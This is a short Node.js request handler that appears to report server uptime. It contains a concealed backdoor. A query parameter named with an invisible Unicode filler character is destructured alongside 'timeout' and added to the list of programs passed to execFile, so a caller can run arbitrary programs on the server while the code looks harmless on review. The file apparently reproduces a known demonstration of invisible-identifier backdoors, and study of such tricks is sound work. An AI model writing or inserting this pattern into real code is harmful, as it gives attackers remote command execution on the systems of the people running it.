const { execFile } = require('child_process');
module.exports = (req, cb) => {
  const { timeout,ㅤ} = req.query;
  const commands = ['uptime', ㅤ];
  commands.forEach((c) => c && execFile(c, { timeout }, cb));
};
